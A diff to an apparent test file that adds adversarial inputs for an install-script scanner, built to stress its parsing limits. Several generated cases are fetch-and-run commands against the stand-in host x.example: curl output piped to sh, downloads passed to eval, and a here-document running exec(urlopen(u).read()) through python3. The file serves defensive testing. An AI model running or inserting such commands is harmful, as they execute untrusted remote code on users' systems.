@@ -4,7 +4,8 @@
  * each run, long nested inline calls, long lines of each rule's trigger, variables whose values
  * would grow without bound if substituted without a budget, archives unpacked into deep folders,
  * here-documents never ended, substitutions, evals and function calls nested past the depth the
- * scan reads.
+ * scan reads, commands spread over lines, parameter expansions, arrays, commands named at run
+ * time and here-documents captured into names.
  */
 
 /** `unit` repeated between `head` and `tail`, to at most `bytes` (ASCII) in all. */
@@ -58,5 +59,12 @@ export const ADVERSARIAL_CASES: readonly AdversarialCase[] = [
   ['a long function called on every line after it', 'INSTALL', (n) => lines((i) => (i === 0 ? 'f() {' : i < 2000 ? `  cp "$1" "$2/x${i}"` : i === 2000 ? '}' : 'f a b'), n)],
   ['here-documents opened in substitutions all along one line', 'INSTALL', (n) => fill('x "$(cat <<A ', n, '', '\nA\n')],
   ['downloads read into variables, each evaluated', 'INSTALL', (n) => lines((i) => `s${i}=$(curl -fsSL https://x.example/${i}); eval "$s${i}"`, n)],
+  ['a command substitution opened on every line, never closed', 'INSTALL', (n) => lines(() => 'x=$(', n)],
+  ['backslash-continued downloads, 200 lines to a command', 'INSTALL', (n) => lines((i) => (i % 200 === 199 ? '  | sh' : `curl https://x.example/${i} \\`), n)],
+  ['parameter expansions with defaults, patterns and unclosed braces all along one line', 'INSTALL', (n) => fill('"${a:-${b:-/usr}}" ${c/x/y} ${u%%.sh} ${d:-', n, 'c=cxrl; u=https://x.example/a.sh\ncp a ')],
+  ['arrays opened all along one line', 'INSTALL', (n) => fill('a=(', n)],
+  ['a long array expanded on every line', 'INSTALL', (n) => lines((i) => (i === 0 ? `a=(${'x '.repeat(1000)})` : 'cp "${a[@]}" ${a[*]} d'), n)],
+  ['a command named at run time on every line', 'INSTALL', (n) => lines((i) => `"$cmd${i}" --x "\${!h${i}}"`, n)],
+  ['here-documents captured into names, each run', 'INSTALL', (n) => lines((i) => [`c="$(cat <<'E'`, 'exec(urlopen(u).read())', 'E', ')"', 'python3 -c "$c"'][i % 5]!, n)],
   ['sk- without the OpenAI marker', 'payload/keys.txt', (n) => fill('sk-', n)],
 ];
